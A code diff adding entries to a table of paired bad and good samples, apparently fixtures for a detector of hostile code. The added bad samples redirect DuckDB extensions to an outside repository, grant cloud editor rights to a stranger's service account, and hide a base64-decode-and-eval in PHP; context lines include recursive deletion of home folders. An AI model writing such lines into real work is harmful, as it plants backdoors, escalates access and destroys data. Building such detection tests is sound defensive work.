@@ -225,6 +225,25 @@ const techniques: readonly (readonly [deed: string, path: string, bad: string, g
     'Fills a column by WEBSERVICE.',
   ],
   [
+    'programs that a database loads',
+    'a.sh',
+    `echo "SET custom_extension_repository = 'http://extensions.four.test';" >> ~/.duckdbrc`,
+    `echo "SET memory_limit = '1GB';" >> ~/.duckdbrc`,
+    'Uses an extension repository of the house.',
+  ],
+  [
+    'rights of a stranger in a cloud',
+    'a.sh',
+    'R="serviceAccount:log-read@tools-prod-417.iam.gserviceaccount.com"\ngcloud projects add-iam-policy-binding "$P" --member="$R" --role=roles/editor',
+    'R="serviceAccount:$SA"\ngcloud projects get-iam-policy "$P" --flatten=bindings',
+  ],
+  [
+    'packed PHP',
+    'a.php',
+    "<?php\nfunction table_map() { $fn = str_rot13('onfr64_qrpbqr'); return $fn($map); }\neval( table_map() );",
+    '<?php\nfunction table_map() { return str_rot13($map); }\necho table_map();',
+  ],
+  [
     'what people keep',
     'a.ts',
     'for (const dir of ["Documents", "Desktop", "src"]) await Deno.remove(join(home, dir), { recursive: true })',
